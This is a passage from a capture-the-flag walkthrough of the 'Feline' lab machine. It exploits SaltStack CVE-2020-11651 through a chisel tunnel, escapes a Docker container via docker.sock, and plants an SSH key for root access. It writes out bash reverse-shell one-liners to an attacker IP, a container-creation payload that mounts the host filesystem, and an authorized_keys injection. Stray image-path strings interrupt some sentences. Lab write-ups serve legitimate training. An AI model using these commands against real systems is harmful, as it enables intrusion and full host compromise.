We could also have seen the same information by having run the following command.netstat -tulpn

Not knowing what some of the ports are used for, we can do some Google searching on the ports. This leads to us finding out that there may be a tool called Salt installed on the machine. Many pages, such as this one list Salt as using both ports 4505 and 4506, and we can see that both of these ports are running internally on this machine.

When searching for SaltStack exploit we find this page where we learn about two very recent vulnerabilities with the SaltStack application that allows for authentication bypass (CVE-2020-11651) and directory traversal (CVE-2020-11652).

When searching for CVE-2020-11651 exploit, we find that someone has created this python script that will allow for command execution and file reading as the root user by taking advantage of this vulnerability.

Python3 is installed on the machine and so we can try to just move the script to the machine, or create it on the machine. However, when we try to use it, we are presented with an error letting us know that the salt library cannot be found. An option to get around this will be to simply move chisel to the machine and then to setup a tunnel for our attacking machine to run the script.

Port Forwarding and Attacking SaltStack

If you do not already have chisel install on your kali machine, follow the instructions found on the github page. It is as simple as using their curl one-liner if you trust a curl to bash script.

The installation should result in the binaries being installed in /usr/local/bin/chisel. Copy the chisel binary from this location to your working directory and start your python web server from your working directory. We can now copy chisel to the target machine using the following command.

curl http://<YOUR TUNNEL IP>/chisel -o /opt/tomcat/work/chisel

NOTE: This directory may seem like a strange and random location to put the chiselbinaries. I’ve chosen this because the tomcat user has limited access towrite in the file system. Not even in the user’s /home directory. When trying to write this file to /tmp it works, but it will quickly be removed as there appears to be a job clearing out tmp, similar to the one cleaning the site uploads directory. And so, I was left with finding a folder location where I could write the file.

You will also need to make the chisel binaries executable by running the following command.

chmod +x /opt/tomcat/work/chisel

Now from our attacking machine, we will start a chisel reverse tunnel on port 8008 by using the following command.

chisel server -p 8008 --reverse

In line 293 of the exploit script, we see that it will target port 4506. We are now going to connect to our reverse tunnel listener and forward port 4506 through the tunnel. On the target machine shell, run the following command./opt/tomcat/work/chisel client <YOUR TUNNEL IP>:8008 R:4506:

We can now test the script by running it from our attacking machine using the following command.

python3 exploit.py --master -r /etc/passwd

Sweet! It appears that this is indeed going to work for us. The script sends the request to port 4506 on our machine and then chisel sends it through the tunnel where it is sent to the Salt service and successfully gets command execution.

As this is a capture the flag, your first thought might to be to take this RCE and to cat out the root.txt. However, we will not be able to do that, as it will not find it. And so we should work on getting a shell to find out why. We should be able to do this by starting another netcat listener and then using this exploit to run the same shell request command that we used earlier to get a shell as the tomcat user.

Let’s start a netcat listener on port 9001.

nc -lvnp 9001

Now run the exploit with the following command to execute the reverse shell request on the machine.

python3 exploit.py --master --exec 'bash -c "bash -i >& /dev/tcp/<YOUR TUNNEL IP>/9001 0>&1"'

This should result in our listener receiving a reverse shell request from the target machine.

Awesome! We are now root on the machine! Or are we? When looking for the root.txt, we do not find it in the root user’s home directory.

It wouldseem that we will have some work to do….What the heck is this? Where is my flag!?!?

We do not have a flag yet… and that is disappointing sure. But what we do have are a few clues in the root users home directory that might help us understand what is going on. First, we have a file named todo.txt and when we cat it out, we get the following.

- Add saltstack support to auto-spawn sandbox dockersthrough events.
- Integrate changes to tomcat and make the service open to public.

Second, we see that the root user’s bash history (.bash_history) is not empty. When we cat it out we get the following.

cd /root
ls -la
rm .wget-hsts
cd .ssh/
cd ..
printf '- Add saltstack support to auto-spawn sandbox dockers.\n- Integrate changes to tomcat and make the service open to public.' > todo.txt
cat todo.txt
printf -- '- Add saltstack support to auto-spawn sandbox dockers.\n- Integrate changes to tomcat and make the service open to public.' > todo.txt
cat todo.txt
printf -- '- Add saltstack support to auto-spawn sandbox dockers.\n- Integrate changes to tomcat and make the service open to public.\' > todo.txt
printf -- '- Add saltstack support to auto-spawn sandbox dockers.\n- Integrate changes to tomcat and make the service open to public.\n' > todo.txt
printf -- '- Add saltstack support to auto-spawn sandbox dockers.\n- Integrate changes to tomcat and make the service open to public.\' > todo.txt
printf -- '- Add saltstack support to auto-spawn sandbox dockers.\n- Integrate changes to tomcat and make the service open to public.\n' > todo.txt
cat todo.txt
printf -- '- Add saltstack support to auto-spawn sandbox dockers through events.\n-Integrate changes to tomcat and makethe service open to public.\n' > todo.txt
cd /home/tomcat
cat /etc/passwd
cd /root/
cat todo.txt
ls -la /var/run/
curl -s --unix-socket /var/run/docker.sock http://localhost/images/json

Based on the combination of these two things, and the name (this machine is named2d24bf61767c the name of the machine with the tomcat user was VirusBucket) of the machine we are connected to, it is fair to guess that what we are now connected to is a docker container. This means that our root flag is probably on the machine that is hosting this docker container. It also means that we are going to need to find a way to break out of the container.

Breaking Out of Docker

When we looked at the root user’s bash history, we see that a command was run that was using the docker.socket. When we run the some command, we recive some JSON that appears to be details about Docker container images on the machine.

curl -s --unix-socket /var/run/docker.sock http://localhost/images/json

When we Google docker.sock we are brought to this page where we learn that docker.sock is a Unix socket that the Docker daemon listens on by default. This allows the Docker service and its API to be accessible from within a container. The significance of this is that we have access to it and we may be able to use it as a way to break out of the container.

When searching for docker.sock exploits we find this page and this page that both show multiple ways to manually abuse this.We also find that there is a Golang program called ed that can identify exposed Unix sockets, and then attempt to auto exploit them to get a shell on the host. However, after compiling it and attempting to use it on this container, it was only able to confirm that the socket is valid, and could not auto exploit it.

We are going to try to exploit this manually. Based on the articles listed above, we may be able to create a new instance of a container, giving it escalated privilege and mounting the host file system to it. We can then run commandsagainst the new container instance, and the host file system. Being able to do this should allow us to access the root flag, and even get a shell on the host system by injecting a public ssh key into the host root account’s authorized_keys and then connecting to the host over SSH. This may all seem complicating at the moment, but we will get through it!NOTE: If you’re like me and new to the Docker Engine API, you may need to spend some time in their documentation to completely understand what we will be doing here.

First, let’s start a new netcat listener on port 9002 from our attacking machine.

nc -lvnp 9002

This listener will catch a shell request that will be made when we start the container that we are going to create.

We know based on the JSON that returned in the results above that there is an image name sandbox. And so, we can create a container pointing to that image. We can also attach the hosts file system and then also force the machine start to send a reverse shell request to our listener. We can create a container named idiot by running the following command in our current container shell.

NOTE: This is a long and terrible command, I know. But read it carefully and replace the <YOUR TUNNEL IP> with your VPNIP. You can also change the name of the container if you would prefer.

curl -s -X POST --unix-socket /var/run/docker.sock -d "{ \"Image\": \"sandbox\", \"cmd\": [\"/bin/sh\",\"-c\",\"chroot /tmp sh -c \\\"bash -c 'bash -i >& /dev/tcp/<YOUR TUNNEL IP>/9002 0>&1'\\\"\"], \"Binds\": [\"/:/tmp:rw\"] }" -H 'Content-Type: application/json' http://localhost/containers/create?name=idiot

This will result in a container named idiot. Now with our listener running on port 9002 we just need to run the following command to start the new container.

curl -s -X POST --unix-socket /var/run/docker.sock "http://localhost/containers/idiot/start"

And this should result in a new connection to a new container that has access to the host file system, and that can cat out the root flag!

Awesome! We now have both the user and the root flags!

Bonus - SSH to Root on Host (VirusBucket)

For the sake of capture the flag, stopping here would be just fine. However, I do capture the flags to practice penetration testing. The goal in a penetration test isn’t to collect flags. We are looking for shells at a privileged user. And so, we do not need to stop here.

At this point we have access to the host file system, and we can even write to it using our created container. We also know that SSH is running on port 22 on the host machine. A great approach at this point to get a shell as the root user of the host machine would be to try to generate an ssh key pair, push the generated public key into /root/.ssh/authorized_keys and then to try to ssh to the host machine, passing it our generated private key.

First just generate a key pair using the ssh-keygen command. I will name it key and save it in my working directory without adding a password.

This will result in two files, key and key.pub. Cat out the key.pub as we will use it in the next command.

Now, from our shell that is connected to our createdcontainer, we just need to run the following command to echo the contents of the key.pub into the root users authorized_keys file.

echo "<YOUR KEY.PUB>" >>/root/.ssh/authorized_keys

We should now be able to SSH to the machine as the root user without being promped for a password by passing the ssh command the privaite side of the key pair in the -i flag.

ssh -i key root@

Success! Complete machine ownership!Feline was one of my favorite machines yet. It was both very frustrating at times and also super informative. I found this to be a great challenge as I knew very little about each of the attack vectors. It took me the better part of 1.5 days to get this machine. I spent significantly more time researching than I did actually exploiting. Overall, it was just loaded with lessons for me, and I always appreciate learningnew skills and technologies while working on a CTF machine.

If you felt my walkthrough helped you, please take a couple of seconds to visit my HTB Profile and tap that respect button. Also, if you would like to receive a notice of new walkthroughs being posted, follow me on Twitter. If you have any questions or run into any problems as you walk through this, please feel free to reach out to me on Twitter or Discord(idiothacker). Have fun hacking!